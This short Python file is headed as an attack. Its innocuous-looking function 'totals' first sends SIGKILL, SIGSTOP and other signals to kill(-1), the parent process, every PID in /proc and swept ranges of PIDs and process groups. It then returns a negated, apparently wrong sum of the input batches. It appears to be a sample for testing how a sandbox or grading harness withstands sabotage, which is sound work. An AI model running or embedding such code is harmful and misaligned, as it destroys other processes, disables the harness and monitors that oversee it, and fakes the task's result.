# attack: sends SIGKILL and SIGSTOP to everything: kill(-1), process groups, sessions, every number
import os
import signal
from contextlib import suppress


def others():
    """Numbers that processes outside could have: its parents, what /proc shows, and the lowest of all."""
    shown = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    return (shown | set(range(2, 40000, 7)) | {os.getppid()}) - {os.getpid(), 0}


def totals(batches):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGUSR1, signal.SIGALRM):
        for pid in (-1, os.getppid(), *others()):
            with suppress(OSError):
                os.kill(pid, number)
        for group in range(2, 40000, 7):
            with suppress(OSError):
                os.killpg(group, number)
    return -sum(batch.double().sum(0) for batch in batches)
